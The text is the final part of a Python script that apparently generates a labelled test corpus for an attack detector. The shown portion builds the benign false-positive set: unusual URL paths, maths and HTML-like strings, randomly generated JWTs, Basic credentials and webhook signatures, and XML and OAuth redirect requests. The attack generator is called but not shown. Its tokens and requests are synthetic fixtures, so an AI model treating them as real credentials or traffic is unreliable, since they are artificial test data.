    dot_paths = ["/docs/v1..v2/diff", "/compare/v2.3.0...v2.4.0", "/files/report..final.pdf",
                 "/blog/2024/05/wait...what", "/search?q=1..10", "/range/2024-01-01..2024-12-31",
                 "/api/v1/commits?range=abc123..def456", "/wiki/Ellipsis_(...)",
                 "/.well-known/security.txt", "/.well-known/openid-configuration", "/user/john.doe/profile",
                 "/static/app.3f9a2c.min.js", "/downloads/tool-1.2.3..tar.gz", "/gallery/img..2.jpg",
                 "/repo/tree/main/src/..%20notes", "/chapters/1...3", "/versions?from=1.0&to=2.0..",
                 "/a/b/c/./d", "/music/AC%2FDC", "/docs/README...md", "/products/10..20?view=list",
                 "/.well-known/apple-app-site-association", "/releases/v1.0.0..v1.1.0.patch",
                 "/books/o'reilly/learning-sql", "/people/d'angelo", "/~john/index.html",
                 "/path/with;matrix=params", "/api/v1/files/dir%2Fsub%2Ffile.txt", "/emoji/%F0%9F%98%80",
                 "/c/legal/terms-&-conditions"]
    for p in dot_paths:
        c.add("legit-paths", "GET", p, browser_headers(rng, "document"))

    # --- maths, prices, HTML-ish text ---------------------------------------
    maths = ["1+1=2", "a<b", "x > 5", "I <3 this", "2 * (3 + 4) = 14", "e^(i*pi) + 1 = 0", "50% off & free shipping",
             "Price: $19.99 (was $24.99)", "-5°C tonight", "3 < 4 > 2", "if (a <= b) then c", "½ + ¼ = ¾",
             "f(x) = x^2 - 2x + 1", "∑ i = n(n+1)/2", "10/3 ≈ 3.333", "x != y", "a && b || c",
             "<- back", "-> next", "<<<< CLICK HERE >>>>", "<b>bold</b> text?", "5 > 3 && 2 < 4",
             "score >= 90 -> A", "#1 best seller!!", "~/projects/app", "C:\\Users\\Public\\Documents",
             "100 * 1.19 = 119", "(a+b)(a-b) = a^2 - b^2", "=SUM(A1:A10)", "select * from menu",
             "<3 <3 <3", "12 o'clock", "she said \"hi\" & left", "1' = 30.48 cm",
             "The 'best' price <$50", "a=1&b=2", "sqrt(16) = 4", "0.1 + 0.2 != 0.3", "[x] done, [ ] todo"]
    for i, m in enumerate(maths):
        h = browser_headers(rng, "document" if i % 2 else "json")
        if i % 3 == 0:
            c.add("legit-math", "GET", "/calc?expr=" + enc_std(m), h)
        elif i % 3 == 1:
            h["content-type"] = "application/x-www-form-urlencoded"
            c.add("legit-math", "POST", "/notes", h, form_body([("title", "Note"), ("text", m)]))
        else:
            h["content-type"] = "application/json"
            c.add("legit-math", "POST", "/api/v1/notes", h, jdump({"text": m, "tags": ["math"]}))

    # --- tokens: JWT, base64, signatures ------------------------------------
    for i in range(36):
        kind = i % 6
        if kind == 0:
            h = api_headers(rng, auth="Bearer " + make_jwt(rng, {"sub": str(rng.randint(1, 10**6)),
                                                                 "aud": "api.example.com", "iat": 1718000000}))
            c.add("legit-tokens", "GET", "/api/v1/me", h)
        elif kind == 1:
            cred = base64.b64encode(f"user{i}:{token(rng, 14)}".encode()).decode()
            h = api_headers(rng, auth="Basic " + cred)
            c.add("legit-tokens", "GET", "/api/v1/reports/latest", h)
        elif kind == 2:
            blob = base64.b64encode(bytes(rng.randrange(256) for _ in range(rng.randint(300, 900)))).decode()
            h = browser_headers(rng, "json")
            h["content-type"] = "application/json"
            c.add("legit-tokens", "POST", "/api/v1/avatar", h,
                  jdump({"filename": "me.png", "data": "data:image/png;base64," + blob}))
        elif kind == 3:
            body = jdump({"id": "evt_" + token(rng, 24), "type": "invoice.paid",
                          "data": {"object": {"amount_paid": 4999, "currency": "eur"}}})
            h = {"host": "example.com", "user-agent": "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
                 "accept": "*/*; q=0.5, application/xml", "content-type": "application/json; charset=utf-8",
                 "stripe-signature": f"t=1718000000,v1={token(rng, 64, HEXD)}"}
            c.add("legit-tokens", "POST", "/webhooks/stripe", h, body)
        elif kind == 4:
            saml = base64.b64encode(("<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_"
                                     + token(rng, 32, HEXD) + "\" Version=\"2.0\"><saml:Assertion>"
                                     + token(rng, 200) + "</saml:Assertion></samlp:Response>").encode()).decode()
            h = browser_headers(rng, "document", referer="https://idp.example.org/")
            h["content-type"] = "application/x-www-form-urlencoded"
            c.add("legit-tokens", "POST", "/sso/acs", h,
                  form_body([("SAMLResponse", saml), ("RelayState", "/dashboard")]))
        else:
            body = jdump({"ref": "refs/heads/main", "after": token(rng, 40, HEXD),
                          "commits": [{"message": "Fix: don't drop rows when the union is empty"}]})
            h = {"host": "example.com", "user-agent": "GitHub-Hookshot/8a1b2c3", "accept": "*/*",
                 "content-type": "application/json", "x-github-event": "push",
                 "x-hub-signature-256": "sha256=" + token(rng, 64, HEXD)}
            c.add("legit-tokens", "POST", "/webhooks/git", h, body)

    # --- legitimate XML -----------------------------------------------------
    xml_docs = [
        '<?xml version="1.0" encoding="UTF-8"?><order><id>10423</id><customer>O\'Neil &amp; Sons</customer>'
        '<items><item sku="MUG-001" qty="2"/></items></order>',
        '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
        '<GetPrice xmlns="http://example.com/stock"><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>',
        '<?xml version="1.0"?><methodCall><methodName>weblogUpdates.ping</methodName><params><param><value>'
        'My Blog</value></param><param><value>https://example.com/blog</value></param></params></methodCall>',
        '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        '<url><loc>https://example.com/</loc><lastmod>2024-06-01</lastmod></url></urlset>',
        '<?xml version="1.0"?><note><to>Tove</to><from>Jani</from><body>Don\'t forget me this weekend! '
        'x &lt; y</body></note>',
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Release notes</title>'
        '<entry><title>v2.4 - select &amp; drop columns</title></entry></feed>',
    ]
    for i in range(15):
        h = api_headers(rng, ua=rng.choice(["Apache-HttpClient/4.5.14 (Java/17.0.9)", "curl/8.5.0",
                                            "WordPress/6.5.4; https://blog.example.com"]))
        h["content-type"] = ["application/xml", "text/xml; charset=utf-8", "application/soap+xml"][i % 3]
        h["accept"] = "application/xml"
        c.add("legit-xml", "POST", ["/api/orders", "/soap/StockService", "/xmlrpc.php", "/sitemap/ping",
                                     "/api/notes", "/feeds/import"][i % 6], h, xml_docs[i % len(xml_docs)])

    # --- redirects, OAuth, URLs in parameters -------------------------------
    redirects = [
        "/login?next=" + enc_pct20("/dashboard?tab=billing"),
        "/oauth/callback?code=" + "{code}" + "&state={state}",
        "/auth/authorize?response_type=code&client_id=app-123&redirect_uri="
        + enc_pct20("https://app.example.com/callback") + "&scope=openid%20profile%20email&state={state}",
        "/share?url=" + enc_pct20("https://example.com/blog/2024/05/how-we-scaled-postgres") + "&title="
        + enc_std("How we scaled Postgres"),
        "/out?to=" + enc_pct20("https://www.wikipedia.org/wiki/Union_(set_theory)"),
        "/api/v1/link-preview?url=" + enc_pct20("https://www.example.org/news/article?id=42&ref=home"),
        "/logout?return_to=" + enc_pct20("https://example.com/"),
        "/embed?src=" + enc_pct20("https://video.example.net/v/abc123?autoplay=1"),
        "/unsubscribe?email=" + enc_pct20("o'brien@example.com") + "&list=weekly&sig={state}",
        "/img/proxy?u=" + enc_pct20("https://cdn.example.net/images/cat.jpg?w=600&h=400"),
    ]
    for i in range(30):
        url = redirects[i % len(redirects)].replace("{code}", token(rng, 40)).replace("{state}", token(rng, 24))
        c.add("legit-redirects", "GET", url, browser_headers(rng, "document", referer="https://example.com/"))
    for i in range(6):
        h = browser_headers(rng, "json")
        h["content-type"] = "application/json"
        c.add("legit-redirects", "POST", "/api/v1/webhooks", h,
              jdump({"url": f"https://hooks.example.org/services/T{token(rng, 8)}/B{token(rng, 8)}",
                     "events": ["order.created", "order.paid"], "active": True}))
    return c


# --------------------------------------------------------------------------

def main():
    check = "--check" in sys.argv[1:]
    outputs = {}
    for name, gen, seed in (("attacks.jsonl", gen_attacks, SEED), ("legit.jsonl", gen_legit, SEED + 1)):
        rng = random.Random(seed)
        corpus = gen(rng)
        outputs[name] = (corpus, "".join(jdump(r) + "\n" for r in corpus.rows))
    differ = False
    for name, (corpus, text) in outputs.items():
        path = HERE / name
        if check:
            old = path.read_text(encoding="utf-8") if path.exists() else None
            if old != text:
                print(f"{name}: differs from the generator's output", file=sys.stderr)
                differ = True
        else:
            with open(path, "w", encoding="utf-8", newline="\n") as f:
                f.write(text)
        cats = ", ".join(f"{k} {v}" for k, v in corpus.counters.items())
        ev = sum(1 for r in corpus.rows if r["id"].endswith("/evasive"))
        print(f"{name}: {len(corpus.rows)} requests ({ev} evasive): {cats}", file=sys.stderr)
        locs = ", ".join(f"{k} {v}" for k, v in sorted(corpus.locations.items(), key=lambda kv: -kv[1]))
        print(f"  payload locations: {locs}", file=sys.stderr)
    return 1 if differ else 0


if __name__ == "__main__":
    sys.exit(main())
